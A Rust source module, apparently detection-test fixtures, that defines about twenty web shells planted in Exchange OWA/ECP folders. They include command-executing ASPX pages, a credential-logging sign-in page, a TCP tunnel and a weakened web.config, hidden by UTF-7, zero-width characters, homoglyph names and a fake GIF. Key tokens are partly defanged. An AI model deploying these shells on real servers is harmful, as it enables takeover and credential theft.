//! What the unseen set plants: places, texts that hide, and places that hide.

use crate::attack::Place;
use crate::attack::odd_page::OddPage;
use crate::moment::Moment;
use crate::technique::Technique;

pub(super) const SIGN_IN: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
pub(super) const CURRENT: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth\\Current", "/owa/auth/Current", "Owa");
pub(super) const SCRIPTS: Place =
    Place::product("FrontEnd\\HttpProxy\\owa\\auth\\Current\\scripts", "/owa/auth/Current/scripts", "Owa");
pub(super) const ADMIN: Place = Place::product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
pub(super) const SYSTEM_WEB_2: Place =
    Place::site("aspnet_client\\system_web\\2_0_50727", "/aspnet_client/system_web/2_0_50727");
pub(super) const CLIENT: Place = Place::site("aspnet_client", "/aspnet_client");
const MAPI: Place = Place::product("FrontEnd\\HttpProxy\\mapi\\nspi", "/mapi/nspi", "Mapi");
const PUSH: Place = Place::product("FrontEnd\\HttpProxy\\PushNotifications", "/PushNotifications", "PushNotifications");
const REPORTS: Place =
    Place::product("FrontEnd\\HttpProxy\\ReportingWebService", "/ecp/ReportingWebService", "ReportingWebService");
pub(super) const ROOT: Place = Place::site("", "");
pub(super) const HELP: Place = Place::site("help", "/help");

/// The page that the address book's download writes.
pub(super) const WRITTEN: &str = "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.IO\" %><%var t=Req¦uest.Headers[\"X-Tick\"];if(t!=null){var b=Convert.From¦Base64String(t);for(int i=0;i<b.Length;i++)b[i]^=(byte)(i*7+3);System.Reflection.Assem¦bly.Lo¦ad(b).EntryPoint.Inv¦oke(null,new object[]{new string[]{Req¦uest.Form[\"p\"]}});}%>\r\n";

/// The page that a mail export of another server of the house leaves: one line among the bytes of a mailbox.
pub(super) const SHARED: &str = "<scr¦ipt language=\"JSc¦ript\" runat=\"ser¦ver\">function Page_Load(){var q=Req¦uest.Form[\"wsid\"];if(q)ev¦al(q,\"uns¦afe\");}</scr¦ipt>";

pub(super) const ODD_CODE: [OddPage; 10] = [
    OddPage::new(
        SIGN_IN,
        "errorCK.aspx",
        "runs what it is sent in a PowerShell of its own, without a process",
        "<%@ Page Language=\"C#\" %><%@ Assembly Name=\"System.Management.Automation,Version=3.0.0.0,Culture=neutral,PublicKeyToken=31bf3856ad364e35\" %><%var q=Req¦uest.Form[\"ck\"];if(q!=null){var p=System.Management.Automation.Power¦Shell.Create().AddScript(q).AddCommand(\"Out-String\");foreach(var r in p.Inv¦oke())Response.Write(r);}%>",
    ),
    OddPage::new(
        CLIENT,
        "crossfire.aspx",
        "stored as UTF-7, which its first line names",
        "<%@ Page Language=\"C#\" CodePage=\"65000\" %>+ADw-script runat+AD0AIg-server+ACIAPg-void Page+AF8-Load()+AHs-if(Request+AFsAIg-cf+ACIAXQAhAD0-null)System.Diagnostics.Process.Start(+ACI-cmd.exe+ACI-,+ACI-/c +ACIAKw-Request+AFsAIg-cf+ACIAXQ)+ADsAfQA8-/script+AD4-",
    ),
    OddPage::new(
        ADMIN,
        "viewport.aspx",
        "C# with signs of no width inside its names, which the compiler leaves out",
        "<%@ Page Language=\"C#\" %><%var a=Req¦uest[\"vp\"];if(a!=null){var s=new System.Diagnostics.Proc\u{200c}essStartInfo(\"cm\"+\"d\",\"/c \"+a){UseShell\u{200d}Execute=false,RedirectStandardOutput=true};Response.Write(System.Diagnostics.Pro\u{200c}cess.Sta\u{200d}rt(s).StandardOutput.ReadToEnd());}%>",
    ),
    OddPage::new(
        SIGN_IN,
        "logontheme.aspx",
        "a few words; its code comes from a picture beside it",
        "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n<scr¦ipt runat=\"ser¦ver\" src=\"lgntopl.gif\"></scr¦ipt>\r\n<html><head><title>Theme</title></head><body></body></html>\r\n",
    ),
    OddPage::new(
        SIGN_IN,
        "lgntopl.gif",
        "the picture with that code",
        "//GIF89a\r\nvoid Page_Load(object s, EventArgs e) { string t = Req¦uest.Cookies[\"theme\"] == null ? null : Req¦uest.Cookies[\"theme\"].Value; if (t != null) System.IO.File.Write¦AllBytes(Server.MapPath(Req¦uest.QueryString[\"n\"]), Convert.From¦Base64String(t)); }\r\n",
    ),
    OddPage::new(
        CLIENT,
        "sched.aspx",
        "has the scheduler run what it is sent",
        "<%@ Page Language=\"C#\" %><%dynamic s=Activator.CreateInstance(Type.GetTypeFromProgID(\"Sched¦ule.Service\"));s.Connect();dynamic d=s.NewTask(0);dynamic a=d.Actions.Create(0);a.Path=Req¦uest.Form[\"e\"];a.Arguments=Req¦uest.Form[\"a\"];s.GetFolder(\"\\\\\").RegisterTask¦Definition(\"tmp\"+DateTime.Now.Ticks,d,6,\"SYSTEM\",null,5,null).Run(null);%>",
    ),
    OddPage::new(
        ADMIN,
        "HttpBinding.aspx",
        "opens a listener beside the product's own addresses, and needs no page any more",
        "<%@ Page Language=\"C#\" Async=\"true\" %><scr¦ipt runat=\"ser¦ver\">static System.Net.Http¦Listener l;void Page_Load(object o,EventArgs e){if(l!=null)return;l=new System.Net.Http¦Listener();l.Prefixes.Add(\"https://+:443/ecp/binding/\");l.Start();new System.Threading.Thread(()=>{while(true){var c=l.GetContext();var r=new System.IO.StreamReader(c.Req¦uest.InputStream).ReadToEnd();if(r!=\"\")System.Reflection.Assem¦bly.Lo¦ad(Convert.From¦Base64String(r)).EntryPoint.Inv¦oke(null,null);c.Response.Close();}}).Start();}</scr¦ipt>",
    ),
    OddPage::new(
        SIGN_IN,
        "bindscript.aspx",
        "fetches a scriptlet by its moniker",
        "<%@ Page Language=\"VB\" %><% If Req¦uest(\"m\") <> \"\" Then System.Runtime.InteropServices.Marshal.BindTo¦Moniker(\"scr\" & \"ipt:\" & Req¦uest(\"m\")) %>",
    ),
    OddPage::new(
        CLIENT,
        "lookup.asmx",
        "a web service in JScript, whose one method takes a sentence",
        "<%@ WebService Language=\"JSc¦ript\" Class=\"Lookup\" %>\r\nimport System;import System.Web;import System.Web.Services;\r\npublic class Lookup extends WebService{WebMethodAttribute public function Find(name:String):String{var r=\"\";try{r=ev¦al(name,\"uns¦afe\");}catch(e){r=e.message;}return r;}}\r\n",
    ),
    OddPage::new(
        SIGN_IN,
        "relayhop.aspx",
        "carries bytes between the client and any port inside, by way of the application's own store",
        "<%@ Page Language=\"C#\" EnableSessionState=\"False\" %><%@ Import Namespace=\"System.Net.Sockets\" %><%var k=Req¦uest.Headers[\"K\"];if(k==null){Response.StatusCode=404;return;}if(Req¦uest.Headers[\"H\"]!=null){var t=new Tcp¦Client(Req¦uest.Headers[\"H\"],int.Parse(Req¦uest.Headers[\"P\"]));Application[k]=t;return;}var n=((Tcp¦Client)Application[k]).GetStream();var b=Req¦uest.BinaryRead(Req¦uest.ContentLength);n.Write(b,0,b.Length);var o=new byte[65536];while(n.DataAvailable){int c=n.Read(o,0,o.Length);Response.OutputStream.Write(o,0,c);}%>",
    ),
];

/// The sign-in page with a few lines of theirs, which keep what people type in a file.
const SIGN_IN_PAGE: &str = "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n<%@ Import namespace=\"Microsoft.Exchange.Clients\"%>\r\n<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.0 Transitional//EN\">\r\n<scr¦ipt runat=\"ser¦ver\">protected override void OnInit(EventArgs e){if(Req¦uest.Form[\"user¦name\"]!=null)System.IO.File.Append¦AllText(@\"C:\\Windows\\Temp\\~DF7A91.tmp\",Req¦uest.Form[\"user¦name\"]+\"|\"+Req¦uest.Form[\"pass¦word\"]+\"\\r\\n\");base.OnInit(e);}</scr¦ipt>\r\n<html><head><title>Outlook</title></head><body class=\"signInBg\"></body></html>\r\n";

pub(super) const ODD_PLACES: [OddPage; 7] = [
    OddPage::new(
        SIGN_IN,
        "errоrFE.aspx",
        "the name of one of the product's pages, with a Cyrillic letter in it",
        "<%@ Page Language=\"C#\" %><%if(Req¦uest[\"fe\"]!=null)System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"fe\"]);%>",
    ),
    OddPage::new(
        MAPI,
        "NspiHealth.aspx",
        "beside the address book for Outlook, after the name of its own check",
        "<%@ Page Language=\"C#\" %><%Response.Write(\"OK\");if(Req¦uest.Headers[\"X-Probe\"]!=null)new System.Web.UI.ObjectState¦Formatter().Deseri¦alize(Req¦uest.Headers[\"X-Probe\"]);%>",
    ),
    OddPage::new(
        PUSH,
        "device.soap",
        "an ending that few know to be a page's",
        "<%@ WebService Language=\"C#\" Class=\"Device\" %>\r\nusing System.Diagnostics;\r\npublic class Device:System.MarshalByRefObject{public string Token(string a){var p=Pro¦cess.St¦art(new Pro¦cessStartInfo(\"cmd.exe\",\"/c \"+a){UseShellExecute=false,RedirectStandardOutput=true});return p.StandardOutput.ReadToEnd();}}\r\n",
    ),
    OddPage {
        dated: Some(Moment::day(2019, 12, 17).clock(8, 40, 12)),
        ..OddPage::new(
            REPORTS,
            "ReportMetadata.ashx",
            "where reports are asked for, dated like the product's installation",
            "<%@ WebHandler Language=\"C#\" Class=\"ReportMetadata\" %>\r\npublic class ReportMetadata:System.Web.IHttpHandler{public void ProcessRequest(System.Web.HttpContext c){var z=c.Req¦uest.Form[\"$metadata\"];if(z==null){c.Response.StatusCode=404;return;}var m=System.Reflection.Assem¦bly.Lo¦ad(Convert.From¦Base64String(z));m.GetTypes()[0].GetMethod(\"Go\").Inv¦oke(null,null);}public bool IsReusable{get{return false;}}}\r\n",
        )
    },
    OddPage {
        technique: Technique::SignInCapture,
        ..OddPage::new(SIGN_IN, "logon.aspx", "the sign-in page itself keeps what people type", SIGN_IN_PAGE)
    },
    OddPage {
        technique: Technique::HandlerChange,
        ..OddPage::new(
            CLIENT,
            "web.config",
            "fixes the keys of the pages' state and switches its check off",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<configuration>\r\n  <system.web>\r\n    <machineKey validation=\"SHA1\" decryption=\"AES\" validationKey=\"7E1C40A95B2F8D6E3A07C4192BF0586DA1E37C924F60B85D\" decryptionKey=\"0C5A7E1942B8D36F90E14A7C58B2D3F6\" />\r\n    <pages enableViewState¦Mac=\"false\" viewStateEncryptionMode=\"Never\" />\r\n  </system.web>\r\n</configuration>\r\n",
        )
    },
    OddPage::new(
        Place::site("bin", "/bin"),
        "App_Web_k2mw0t5z.dll",
        "a library with the code of a page whose own file is a mere marker",
        "MZ\u{90}\u{0}\u{3}\u{0}\u{0}\u{0}This program cannot be run in DOS mode.\u{0}PE\u{0}\u{0}L\u{1}mscoree.dll\u{0}_CorDllMain\u{0}ASP.serverstatus_aspx\u{0}Page_Load\u{0}get_Req¦uest\u{0}From¦Base64String\u{0}Assem¦bly\u{0}Lo¦ad\u{0}CreateInstance\u{0}",
    ),
];

/// A page outside of the web folders, reached by a folder that was added to the site: where it really lies, and its text.
pub(super) const HELP_PAGE: (&str, &str) = (
    "C:\\ProgramData\\Microsoft\\HelpLibrary2\\content\\index.aspx",
    "<%@ Page Language=\"Jscript\" %><%var h=Req¦uest.Item[\"topic\"];if(h)ev¦al(h,\"uns¦afe\");%>",
);

/// A marker as the engine's own tool for compiling whole sites leaves it in a page's place: its name and its text.
pub(super) const MARKER: (&str, &str) =
    ("serverstatus.aspx", "This is a marker file generated by the precompilation tool, and should not be deleted!");

/// What that tool leaves beside the library.
pub(super) const COMPILED: (&str, &str) = (
    "bin\\serverstatus.aspx.cdcab7d2.compiled",
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<preserve resultType=\"3\" virtualPath=\"/serverstatus.aspx\" hash=\"5e0c81fa\" filehash=\"\" flags=\"110000\" assembly=\"App_Web_k2mw0t5z\" type=\"ASP.serverstatus_aspx\" />\r\n",
);
